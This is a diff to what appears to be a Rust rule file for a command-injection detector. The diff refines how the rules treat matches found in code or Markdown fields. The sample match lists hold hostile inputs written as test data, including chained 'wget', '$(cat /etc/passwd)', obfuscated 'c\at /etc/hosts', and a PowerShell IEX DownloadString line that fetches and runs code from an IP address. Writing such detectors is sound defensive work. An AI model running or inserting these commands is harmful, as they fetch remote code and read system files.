@@ -40,7 +40,8 @@ pub(super) static CHAINED: Rule = Rule {
     details: "\
 `8.8.8.8; wget …` ends the command that the value was put into and starts another. Found are `;`, `|`, `&`, `&&`, `||` and line \
 breaks with the name of a command behind them, when what stands before and behind looks like a value that is left and a command \
-that is run, not like prose, a table or code.
+that is run, not like prose, a table or code. Where the field holds code, or Markdown with code in it, a command is only suspected, \
+unless the text begins with a value and a separator right behind it.
 
 Start programs with a list of arguments and without a shell (`execve`, `subprocess.run([…])`, `execFile`).",
     matches: &[
@@ -83,7 +84,9 @@ pub(super) static SUBSTITUTION: Rule = Rule {
     paranoia: Paranoia::One,
     summary: "a substitution of a shell with a command in it",
     details: "`$(whoami)`, `` `id` `` and `<(id)` run a command within another, in double quotes too. Start programs without a shell. \
-              Where the field holds Markdown, what begins a code span is none; in a URL, path, file name or token every backtick is a shell's.",
+              Where the field holds Markdown, what begins a code span is none; in a URL, path, file name or token every backtick is a shell's. \
+              In a file name or token a known command is certain whatever is around it; in code, and in Markdown that quotes code, it is \
+              suspected, unless the text begins with it or with one value in front of it.",
     matches: &["$(whoami)", "x$(cat /etc/passwd)y", "`id`", "\"`uname -a`\"", "<(ifconfig)", "a$(ls)"],
     passes: &["costs $(5)", "$(document).ready(f)", "use `ls` to list", "$(CC) -o $@", "`cat` and `sort`", "f(<(x))"],
 };
@@ -97,7 +100,7 @@ pub(super) static OBFUSCATED: Rule = Rule {
     paranoia: Paranoia::One,
     summary: "a command whose name is hidden by quotes, escapes or empty expansions",
     details: "`w'h'oami`, `c\\at`, `un$@ame` and `who^ami` run like the plain name and pass filters that look for it. Start programs \
-              without a shell.",
+              without a shell. In a field of code they are suspected, unless the text begins with a value that they leave.",
     matches: &[
         "; w'h'oami",
         "|c\\at /etc/hosts",
@@ -230,7 +233,8 @@ pub(super) static BATCH: Rule = Rule {
     cwe: 78,
     paranoia: Paranoia::One,
     summary: "a loop or condition of cmd.exe",
-    details: "`for %i in (…) do …` and `if exist …` of `cmd.exe` run commands. Start programs without a shell.",
+    details: "`for %i in (…) do …` and `if exist …` of `cmd.exe` run commands. Start programs without a shell. In a field of \
+              code they are suspected, unless the text begins with a value that they leave.",
     matches: &[
         "for %i in (a b) do calc",
         "FOR /F \"tokens=1\" %%g IN ('ver') DO echo %%g",
@@ -257,7 +261,8 @@ pub(super) static POWERSHELL: Rule = Rule {
     paranoia: Paranoia::One,
     summary: "a command of PowerShell that runs or fetches something",
     details: "`IEX (New-Object Net.WebClient).DownloadString(…)`, `powershell -EncodedCommand …` and cmdlets behind a separator run \
-              code. Start programs without a shell.",
+              code. Start programs without a shell. In a field of code they are suspected, unless the text begins with a value that \
+              they leave.",
     matches: &[
         "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/')",
         "powershell -enc SQBFAFgA",
